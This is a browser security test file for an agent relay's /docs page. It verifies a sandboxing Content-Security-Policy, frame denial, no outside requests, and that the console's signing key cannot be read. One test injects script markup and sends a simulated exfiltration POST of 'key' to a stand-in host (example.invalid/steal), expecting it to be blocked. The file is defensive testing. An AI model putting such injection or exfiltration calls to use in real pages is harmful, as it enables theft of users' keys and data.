/**
 * /docs in a real browser (Debian's Chromium through playwright-core): the page renders the reference
 * and every request it makes on load goes to the relay itself — no CDN, fonts, proxy or telemetry host.
 * /docs/ (trailing slash) works the same. The page shares its address with the console: its
 * Content-Security-Policy sandboxes it into an origin of its own, where it renders with no violation;
 * a script running on it reaches no storage of the console's (and the key there is non-extractable
 * anyway), injected scripts do not run, and no other site can frame it. Skipped with one
 * line where Chromium is missing (never under CI).
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { existsSync, mkdirSync } from 'node:fs'
import { join } from 'node:path'
import { EXAMPLE } from '../../src/http/openapi-document.ts'
import { DOCS_CSP, SCALAR_CONFIG } from '../../src/http/routes/docs.ts'
import { ROOT } from '../support/binary.ts'
import { startTestRelay, type TestRelay } from '../support/harness.ts'
import { requireProgram } from '../support/requires.ts'

const CHROMIUM = '/usr/bin/chromium'
const hasChromium = requireProgram('chromium', existsSync(CHROMIUM) ? CHROMIUM : null, 'the /docs browser test')

let t: TestRelay
let origin: string
beforeAll(async () => {
  t = await startTestRelay({ host: '127.0.0.1' })
  const { port } = await t.relay.start()
  origin = `http://127.0.0.1:${port}`
})
afterAll(() => t.close())

describe('/docs', () => {
  test('/docs and /docs/ serve the same page, configured to call no outside service', async () => {
    const [a, b] = await Promise.all([fetch(`${origin}/docs`), fetch(`${origin}/docs/`)])
    expect([a.status, b.status]).toEqual([200, 200])
    const html = await a.text()
    expect(await b.text()).toBe(html)
    expect(html).toContain('"proxyUrl":""')
    expect(html).toContain('"telemetry":false')
    expect(html).toContain('"url":"/v1/openapi.json"') // absolute: the same document from /docs and /docs/
    expect(html.match(/https?:\/\/[^"'\s]+/g) ?? []).toEqual([])
    expect(SCALAR_CONFIG.agent.disabled).toBe(true)
    // no inline script: the configuration is data, started by /docs/init.js
    expect(html.match(/<script(?![^>]*\bsrc=)(?![^>]*type="application\/json")[^>]*>/g) ?? []).toEqual([])
    for (const res of [a, b]) {
      expect(res.headers.get('content-security-policy')).toBe(DOCS_CSP)
      expect(res.headers.get('x-frame-options')).toBe('DENY')
    }
    expect(DOCS_CSP).toContain("frame-ancestors 'none'")
    expect(DOCS_CSP).toContain("script-src 'self';")
    expect(DOCS_CSP).toContain("connect-src 'self';")
    expect(DOCS_CSP).not.toContain('unsafe-eval')
    expect(DOCS_CSP).toMatch(/; sandbox allow-scripts [^;]*$/)
    expect(DOCS_CSP).not.toContain('allow-same-origin')
    // the document it reads from its own origin is public
    const document = await fetch(`${origin}/v1/openapi.json`)
    expect(document.headers.get('access-control-allow-origin')).toBe('*')
    await document.arrayBuffer()
    for (const script of ['init.js', 'start.js']) {
      const res = await fetch(`${origin}/docs/${script}`)
      expect([res.status, res.headers.get('content-type')]).toEqual([200, 'text/javascript; charset=utf-8'])
      expect(await res.text()).toContain(script === 'init.js' ? "'localStorage', 'sessionStorage'" : "getElementById('scalar-config')")
    }
    const script = await fetch(`${origin}/docs/scalar.js`)
    expect(script.status).toBe(200)
    expect(script.headers.get('content-type')).toContain('javascript')
    await script.arrayBuffer()
  })

  test.skipIf(!hasChromium)('renders in Chromium, and every request on load goes to the relay itself', async () => {
    const { chromium } = await import('playwright-core')
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] })
    try {
      for (const path of ['/docs', '/docs/']) {
        const page = await browser.newPage({ viewport: { width: 1280, height: 900 } })
        const requested: string[] = []
        page.on('request', (r) => requested.push(r.url()))
        const violations: string[] = []
        page.on('console', (m) => m.text().includes('Content Security Policy') && violations.push(m.text()))
        await page.goto(origin + path, { waitUntil: 'networkidle' })
        await page.getByText('Signing a request').first().waitFor({ timeout: 30_000 })
        await page.getByText('Read an agent profile').first().waitFor({ timeout: 30_000 })
        await page.waitForTimeout(1000) // anything the rendered page fetches afterwards is recorded too
        expect(requested.filter((u) => !u.startsWith(origin + '/'))).toEqual([])
        expect(requested).toContain(`${origin}/v1/openapi.json`)
        const text = await page.innerText('body')
        expect(text).not.toContain('YOUR_SECRET_TOKEN')
        // request examples carry the worked example's headers, which a reader can check by hand
        expect(text).toContain(`X-M2M-Public-Key: ${EXAMPLE.publicKey}`)
        expect(text).toContain(`X-M2M-Signature: ${EXAMPLE.signature}`)
        expect(text).not.toContain('\\n')
        expect(violations).toEqual([])
        if (path === '/docs/') {
          mkdirSync(join(ROOT, 'test-artifacts'), { recursive: true })
          await page.screenshot({ path: join(ROOT, 'test-artifacts', 'docs.png') })
        }
        await page.close()
      }
    } finally {
      await browser.close()
    }
  }, 120_000)

  test.skipIf(!hasChromium)("a script on /docs cannot read the console's key, injected scripts do not run, and no other site can frame it", async () => {
    const { chromium } = await import('playwright-core')
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] })
    try {
      const context = await browser.newContext()
      const page = await context.newPage()
      page.on('dialog', (d) => void d.accept())
      // the console makes a key on this origin and keeps it
      await page.goto(`${origin}/console`)
      await page.getByRole('button', { name: 'Generate a new key' }).click()
      await page.getByRole('button', { name: 'Export key file' }).waitFor()
      const publicKey = (await page.locator('main code[title]').getAttribute('title')) as string
      expect(publicKey).toMatch(/^[A-Za-z0-9_-]{43}$/)

      // the console's page itself cannot read the key back (the browser keeps it non-extractable)
      expect(
        await page.evaluate(async () => {
          const { indexedDB, localStorage } = globalThis as any // runs in the page (the project's types have no DOM)
          localStorage.setItem('marker', 'set by the console')
          const record: any = await new Promise((resolve, reject) => {
            const open = indexedDB.open('agent-relay-console')
            open.onerror = () => reject(open.error)
            open.onsuccess = () => {
              const get = open.result.transaction('keys').objectStore('keys').get('current')
              get.onsuccess = () => resolve(get.result)
            }
          })
          const tries: string[] = []
          for (const format of ['pkcs8', 'jwk', 'raw']) tries.push(await crypto.subtle.exportKey(format as 'jwk', record.signing_key).then(() => `${format}: exported`, (err) => `${format}: ${(err as Error).name}`))
          return { publicKey: record.public_key, extractable: record.signing_key.extractable, tries }
        }),
      ).toEqual({ publicKey, extractable: false, tries: ['pkcs8: InvalidAccessError', 'jwk: InvalidAccessError', 'raw: InvalidAccessError'] })

      // a script on /docs looks for it everywhere a page of the origin could: the page has an origin of its own, and reaches none of them
      await page.goto(`${origin}/docs`)
      await page.getByText('Signing a request').first().waitFor({ timeout: 30_000 })
      const found = await page.evaluate(async () => {
        const { document, indexedDB, localStorage, opener, origin } = globalThis as any
        const attempt = async (run: () => unknown) => {
          try {
            return `read: ${JSON.stringify(await run())}`
          } catch (err) {
            return (err as Error).name
          }
        }
        return {
          origin,
          indexedDB: await attempt(
            () =>
              new Promise((resolve, reject) => {
                const open = indexedDB.open('agent-relay-console')
                open.onerror = () => reject(open.error)
                open.onsuccess = () => resolve(open.result.objectStoreNames.length)
              }),
          ),
          cookie: await attempt(() => document.cookie),
          localStorage: localStorage.getItem('marker'),
          opener: opener === null,
        }
      })
      expect(found).toEqual({ origin: 'null', indexedDB: 'SecurityError', cookie: 'SecurityError', localStorage: null, opener: true })

      // injected markup cannot run script or send anything to another host
      const injected = await page.evaluate(async () => {
        const w = globalThis as any
        const { document } = w
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onload="window.__ran = 1" onerror="window.__ran = 2">')
        const s = document.createElement('script')
        s.textContent = 'window.__ran2 = 1'
        document.body.appendChild(s)
        let sent = 'sent'
        await fetch('http://example.invalid/steal', { method: 'POST', body: 'key' }).catch((err) => (sent = (err as Error).name))
        await new Promise((r) => setTimeout(r, 200))
        return { ran: w.__ran ?? null, ran2: w.__ran2 ?? null, sent }
      })
      expect(injected).toEqual({ ran: null, ran2: null, sent: 'TypeError' })

      // another site frames /docs and /console: refused; a page without frame-ancestors (the control) loads
      // (served from loopback too, on another port: another origin, and no private-network block in the way)
      const framer = Bun.serve({
        hostname: '127.0.0.1',
        port: 0,
        fetch: () =>
          new Response(`<iframe name="docs" src="${origin}/docs"></iframe><iframe name="console" src="${origin}/console"></iframe><iframe name="control" src="${origin}/v1/health"></iframe>`, {
            headers: { 'content-type': 'text/html' },
          }),
      })
      await page.goto(`http://127.0.0.1:${framer.port}/`)
      await page.waitForTimeout(1500)
      const framed = Object.fromEntries(
        await Promise.all(
          page.frames().filter((f) => f !== page.mainFrame()).map(async (f) => [f.name(), await f.evaluate(() => (globalThis as any).document.body?.innerText.slice(0, 40) ?? '').catch(() => 'unreachable')] as const),
        ),
      )
      expect(framed.control).toContain('ok')
      for (const name of ['docs', 'console']) {
        expect(framed[name]).not.toContain('Agent Relay')
        expect(page.frame({ name })?.url()).toBe('chrome-error://chromewebdata/')
      }
      framer.stop(true)
      await context.close()
    } finally {
      await browser.close()
    }
  }, 120_000)
})
